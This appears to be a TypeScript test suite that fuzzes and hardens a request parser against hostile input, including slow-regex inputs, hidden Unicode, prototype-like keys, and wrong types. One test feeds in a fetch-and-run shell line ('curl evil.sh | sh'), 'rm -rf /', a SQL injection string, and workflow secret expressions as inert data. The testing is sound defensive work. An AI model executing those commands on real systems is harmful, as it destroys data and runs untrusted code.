// biome-ignore-all lint/suspicious/noTemplateCurlyInString: workflow-expression text is fed in as data on purpose
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { parseRequest, type Request } from "../../../src/core/request/index.ts";
import { REQUEST_BODIES } from "../../support/hostile-inputs.ts";

const HIDDEN =
  /[\u0000-\u0008\u000B-\u001F\u007F-\u009F\u061C\u200B-\u200F\u202A-\u202E\u2060\u2066-\u2069\uFEFF]/;

/** Every string in the result, field names included. */
function strings(r: Request): string[] {
  return [
    r.title,
    r.project,
    r.text,
    ...r.requirements,
    ...r.stack,
    ...r.stack_tags,
    ...(r.deadline === null ? [] : [r.deadline]),
    ...(r.deadline_text === null ? [] : [r.deadline_text]),
    ...Object.keys(r.fields),
    ...Object.values(r.fields),
  ];
}

function expectWellFormed(r: Request): void {
  expect(typeof r.title).toBe("string");
  expect(typeof r.project).toBe("string");
  expect(typeof r.text).toBe("string");
  for (const list of [r.requirements, r.stack, r.stack_tags]) {
    expect(Array.isArray(list)).toBe(true);
    for (const entry of list) expect(typeof entry).toBe("string");
  }
  expect(r.deadline === null || typeof r.deadline === "string").toBe(true);
  expect(r.deadline_text === null || typeof r.deadline_text === "string").toBe(true);
  if (r.deadline !== null) expect(Number.isNaN(Date.parse(r.deadline))).toBe(false);
  expect(Object.getPrototypeOf(r.fields)).toBe(Object.prototype);
  for (const value of Object.values(r.fields)) expect(typeof value).toBe("string");
  for (const fact of Object.values(r.facts)) expect(typeof fact).toBe("boolean");
  expect(Object.keys(r.facts).sort()).toEqual([
    "has_backend",
    "has_frontend",
    "needs_auth",
    "simple_crud",
    "uses_orm",
  ]);
  for (const s of strings(r)) expect(HIDDEN.test(s)).toBe(false);
  expect(JSON.parse(JSON.stringify(r))).toEqual(r);
}

/** Far above what any of these inputs takes in linear time, far below what backtracking takes. */
const LINEAR_MS = 10_000;

function timed(body: string, title?: string): { r: Request; ms: number } {
  const start = performance.now();
  const r = parseRequest({ title, body }, { now: 1_700_000_000_000 });
  return { r, ms: performance.now() - start };
}

describe("hostile input", () => {
  const bodies = REQUEST_BODIES;
  // A guard against super-linear time (backtracking on 1 MB takes minutes, not seconds), with room
  // for a slow or busy machine; how fast parsing is, is measured by bench/input-speed.ts.
  for (const [name, body] of Object.entries(bodies)) {
    it(`parses ${name} in linear time`, () => {
      const { r, ms } = timed(body, body);
      expect(ms).toBeLessThan(LINEAR_MS);
      expectWellFormed(r);
    });
  }

  it("keeps template and shell syntax as inert text", () => {
    const body = [
      "Project: ${{ secrets.GITHUB_TOKEN }}",
      "Requirements: $(curl evil.sh | sh) + `rm -rf /`",
      "Stack: ${{ github.event.issue.title }}",
      "Deadline: $(date)",
      "Notes: '; DROP TABLE users; --",
    ].join("\n");
    const { r } = timed(body);
    expect(r.project).toBe("${{ secrets.GITHUB_TOKEN }}");
    expect(r.requirements).toEqual(["$(curl evil.sh | sh)", "`rm -rf /`"]);
    expect(r.stack).toEqual(["${{ github.event.issue.title }}"]);
    expect(r.deadline).toBeNull();
    expect(r.deadline_text).toBe("$(date)");
    expect(r.fields["notes"]).toBe("'; DROP TABLE users; --");
    expectWellFormed(r);
  });

  it("strips hidden characters that would disguise a key or value", () => {
    const { r } = timed("Pro\u200bject: safe\u202e txt.exe\nSta\u0000ck: React");
    expect(r.project).toBe("safe txt.exe");
    expect(r.stack).toEqual(["React"]);
  });

  it("keeps __proto__-like keys as plain data", () => {
    const { r } = timed("constructor: x\nhasOwnProperty: y\ntoString: z");
    expect(r.fields).toEqual({ constructor: "x", hasownproperty: "y", tostring: "z" });
    expectWellFormed(r);
  });

  it("never throws on values of the wrong type", () => {
    const odd = [undefined, null, 42, {}, [], Symbol("x"), () => "x"] as unknown[];
    for (const value of odd) {
      const input = { title: value, body: value } as unknown as { title?: string; body: string };
      expectWellFormed(parseRequest(input, { now: value as number }));
      expectWellFormed(parseRequest(value as never, value as never));
    }
  });
});

describe("properties", () => {
  const fragment = fc.constantFrom(
    "### ",
    "Project",
    "Requirements",
    "요구",
    "스택",
    "마감",
    ": ",
    ", ",
    " + ",
    "/",
    "\n",
    "\r\n",
    "- ",
    "1. ",
    "_No response_",
    "```",
    "3일",
    "2 weeks",
    "tomorrow",
    "2026-12-01",
    "2026-12-01T10:00:00+09:00",
    "OAuth",
    "FastAPI",
    "C++",
    "${{ secrets.X }}",
    "$(x)",
    "`",
    "\u0000",
    "\u202e",
    "\u200b",
    "\u0085",
    "\ufeff",
    "\ud800",
    "in ",
    "by ",
    " and ",
    "**",
  );
  const structured = fc
    .array(fc.oneof(fragment, fc.string({ maxLength: 5 })), { maxLength: 60 })
    .map((p) => p.join(""));
  const anyText = fc.oneof(
    fc.string(),
    fc.string({ unit: "binary" }),
    fc.string({ unit: "grapheme" }),
    fc.string({ unit: "binary-ascii" }),
    structured,
  );

  it("never throws and always returns well-formed plain data", () => {
    fc.assert(
      fc.property(fc.option(anyText, { nil: undefined }), anyText, fc.integer(), (title, body, now) => {
        expectWellFormed(parseRequest({ title, body }, { now }));
      }),
      { numRuns: 500 },
    );
  });

  it("is deterministic for the same input and now", () => {
    fc.assert(
      fc.property(anyText, fc.integer({ min: 0, max: 4_000_000_000_000 }), (body, now) => {
        expect(parseRequest({ body }, { now })).toEqual(parseRequest({ body }, { now }));
      }),
      { numRuns: 200 },
    );
  });
});
